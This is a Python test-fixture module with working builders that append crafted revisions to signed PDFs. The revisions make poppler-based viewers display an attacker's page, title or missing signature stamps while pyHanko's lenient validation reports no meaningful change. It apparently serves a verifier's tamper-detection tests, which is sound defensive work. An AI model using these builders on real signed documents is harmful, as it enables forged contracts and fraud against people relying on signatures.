"""Revisions written by hand that pyHanko and poppler read differently (found in review).

Each builder appends one revision to a signed PDF that makes poppler (pdftotext,
pdftoppm, evince) show an attacker's page 1, title or signature widgets while pyHanko,
reading leniently, sees no change or only "validation data". Used by
tests/test_tampering.py, which shows each attack is real and that verify refuses it.
"""

from __future__ import annotations

import io
import re
import struct

from pyhanko.pdf_utils import generic
from pyhanko.pdf_utils.reader import PdfFileReader

TEXT = b"MANIPULIERT Budget 0 EUR"
CONTENT = b"1 1 1 rg 0 0 600 850 re f 0 0 0 rg BT /FX 28 Tf 60 600 Td (" + TEXT + b") Tj ET"
FONT = b"<< /Font << /FX << /Type /Font /Subtype /Type1 /BaseFont /Helvetica >> >> >>"


def _reader(pdf: bytes) -> PdfFileReader:
    return PdfFileReader(io.BytesIO(pdf), strict=False)


def _raw_object(pdf: bytes, reader: PdfFileReader, num: int) -> bytes:
    """The bytes between ``N 0 obj`` and ``endobj`` of the newest version of object N."""
    offset = reader.xrefs[generic.Reference(num, 0)]
    assert isinstance(offset, int), offset
    match = re.compile(rb"%d\s+0\s+obj" % num).match(pdf, offset)
    assert match is not None
    return pdf[match.end() : pdf.index(b"endobj", match.end())].strip()


def _first_page(reader: PdfFileReader) -> int:
    node = reader.root.raw_get("/Pages")
    while True:
        obj = node.get_object()
        if obj.get("/Type") == "/Page":
            return int(node.idnum)
        node = obj["/Kids"].raw_get(0)


def _trailer(reader: PdfFileReader, pdf: bytes, size: int, info: int | None = None) -> bytes:
    t = reader.trailer_view
    ids = re.findall(rb"/ID\s*(\[\s*<[0-9a-fA-F]+>\s*<[0-9a-fA-F]+>\s*\])", pdf)[-1]
    prev = int(re.findall(rb"startxref\s*(\d+)", pdf)[-1])
    info_num = t.raw_get("/Info").idnum if info is None else info
    return b"/Size %d /Root %d 0 R /Info %d 0 R /ID %s /Prev %d" % (
        size, t.raw_get("/Root").idnum, info_num, ids, prev,
    )  # fmt: skip


def _stream(data: bytes, extra: bytes = b"") -> bytes:
    return b"<< /Length %d %s>>\nstream\n" % (len(data), extra) + data + b"\nendstream"


def _evil_page(pdf: bytes, reader: PdfFileReader, page: int, content: int) -> bytes:
    body = _raw_object(pdf, reader, page)
    body = re.sub(rb"/Contents\s+\d+\s+\d+\s+R", b"/Contents %d 0 R" % content, body)
    return re.sub(rb"/Resources\s+\d+\s+\d+\s+R", b"/Resources " + FONT, body)


def _start(pdf: bytes) -> bytearray:
    return bytearray(pdf if pdf.endswith(b"\n") else pdf + b"\n")


def duplicate_entry(pdf: bytes) -> bytes:
    """A classic table lists page 1 twice: the attacker's first (poppler), a copy last (pyHanko)."""
    reader = _reader(pdf)
    page, size = _first_page(reader), int(reader.trailer_view["/Size"])
    content = size
    out = _start(pdf)
    at_content = len(out)
    out += b"%d 0 obj\n" % content + _stream(CONTENT) + b"\nendobj\n"
    at_evil = len(out)
    out += b"%d 0 obj\n" % page + _evil_page(pdf, reader, page, content) + b"\nendobj\n"
    at_copy = len(out)
    out += b"%d 0 obj\n" % page + _raw_object(pdf, reader, page) + b"\nendobj\n"
    xref = len(out)
    out += b"xref\n%d 1\n%010d 00000 n \n%d 1\n%010d 00000 n \n%d 1\n%010d 00000 n \n" % (
        page, at_evil, page, at_copy, content, at_content,
    )  # fmt: skip
    out += b"trailer\n<< %s >>\nstartxref\n%d\n%%%%EOF\n" % (_trailer(reader, pdf, size + 1), xref)
    return bytes(out)


def _hidden_page(pdf: bytes, trailer_size: int, info: int | None) -> bytes:
    """Page 1 and its content in no table, and an empty table; the trailer makes poppler
    rebuild the table by scanning the file, so the hidden page becomes page 1."""
    reader = _reader(pdf)
    page, size = _first_page(reader), int(reader.trailer_view["/Size"])
    content = size + 100
    out = _start(pdf)
    out += b"%d 0 obj\n" % content + _stream(CONTENT) + b"\nendobj\n"
    out += b"%d 0 obj\n" % page + _evil_page(pdf, reader, page, content) + b"\nendobj\n"
    xref = len(out)
    trailer = _trailer(reader, pdf, trailer_size or size, info)
    out += b"xref\n0 0\ntrailer\n<< %s >>\nstartxref\n%d\n%%%%EOF\n" % (trailer, xref)
    return bytes(out)


def absurd_size(pdf: bytes) -> bytes:
    """``/Size 2^36``: poppler finds no valid table size and rebuilds it."""
    return _hidden_page(pdf, 68719476736, None)


def dangling_info(pdf: bytes) -> bytes:
    """``/Info`` names an object that does not exist: poppler rebuilds the table."""
    size = int(_reader(pdf).trailer_view["/Size"])
    return _hidden_page(pdf, 0, size + 50)


def object_stream_twice(pdf: bytes) -> bytes:
    """An object stream holding page 1 twice: pyHanko takes the first (a copy), poppler
    the one at the index the cross-reference stream gives (the attacker's)."""
    reader = _reader(pdf)
    page, size = _first_page(reader), int(reader.trailer_view["/Size"])
    content, objstm, xstream = size, size + 1, size + 2
    copy = _raw_object(pdf, reader, page) + b"\n"
    evil = _evil_page(pdf, reader, page, content) + b"\n"
    header = (b"%d 0 %d %d " % (page, page, len(copy))).ljust(32)
    data = header + copy + evil
    out = _start(pdf)
    offsets = {content: len(out)}
    out += b"%d 0 obj\n" % content + _stream(CONTENT) + b"\nendobj\n"
    offsets[objstm] = len(out)
    out += b"%d 0 obj\n" % objstm + _stream(data, b"/Type /ObjStm /N 2 /First 32 ") + b"\nendobj\n"
    offsets[xstream] = len(out)
    rows = sorted(
        [
            (page, struct.pack(">BIH", 2, objstm, 1)),
            *((num, struct.pack(">BIH", 1, offsets[num], 0)) for num in offsets),
        ]
    )
    table = b"".join(row for _, row in rows)
    index = b" ".join(b"%d 1" % num for num, _ in rows)
    trailer = _trailer(reader, pdf, xstream + 1)
    out += b"%d 0 obj\n<< /Type /XRef %s /W [1 4 2] /Index [%s] /Length %d >>\nstream\n" % (
        xstream, trailer, index, len(table),
    )  # fmt: skip
    out += table + b"\nendstream\nendobj\nstartxref\n%d\n%%%%EOF\n" % offsets[xstream]
    return bytes(out)


def _append(pdf: bytes, objects: dict[int, bytes], info: int | None = None) -> bytes:
    """A plain revision with ``objects`` (number → body) and a correct table."""
    reader = _reader(pdf)
    size = max(int(reader.trailer_view["/Size"]), max(objects) + 1)
    out = _start(pdf)
    offsets = {}
    for num, body in sorted(objects.items()):
        offsets[num] = len(out)
        out += b"%d 0 obj\n" % num + body + b"\nendobj\n"
    xref = len(out)
    out += b"xref\n"
    for num, offset in sorted(offsets.items()):
        out += b"%d 1\n%010d 00000 n \n" % (num, offset)
    out += b"trailer\n<< %s >>\nstartxref\n%d\n%%%%EOF\n" % (
        _trailer(reader, pdf, size, info),
        xref,
    )
    return bytes(out)


def new_title(pdf: bytes) -> bytes:
    """A new document information dictionary and XMP packet with the attacker's title;
    pyHanko rates both as validation data, the window bar shows the new title."""
    reader = _reader(pdf)
    size = int(reader.trailer_view["/Size"])
    info, meta = size, size + 1
    root = reader.trailer_view.raw_get("/Root").idnum
    old_meta = reader.root.raw_get("/Metadata").idnum
    xmp = reader.root["/Metadata"].data
    xmp = re.sub(rb"(<dc:title>.*?<rdf:li[^>]*>).*?(</rdf:li>)", rb"\g<1>" + TEXT + rb"\g<2>",
                 xmp, count=1, flags=re.S)  # fmt: skip
    root_body = _raw_object(pdf, reader, root).replace(
        b"/Metadata %d 0 R" % old_meta, b"/Metadata %d 0 R" % meta
    )
    objects = {
        info: b"<< /Title (%s) /Producer (LibreOffice) >>" % TEXT,
        meta: _stream(xmp, b"/Type /Metadata /Subtype /XML "),
        root: root_body,
    }
    return _append(pdf, objects, info=info)


def need_appearances(pdf: bytes) -> bytes:
    """``/NeedAppearances true`` in the form: viewers redraw the widgets, and both
    signature stamps vanish; pyHanko exempts the key from its comparison."""
    reader = _reader(pdf)
    form = reader.root.raw_get("/AcroForm").idnum
    body = _raw_object(pdf, reader, form)
    return _append(pdf, {form: body.replace(b"<<", b"<< /NeedAppearances true ", 1)})
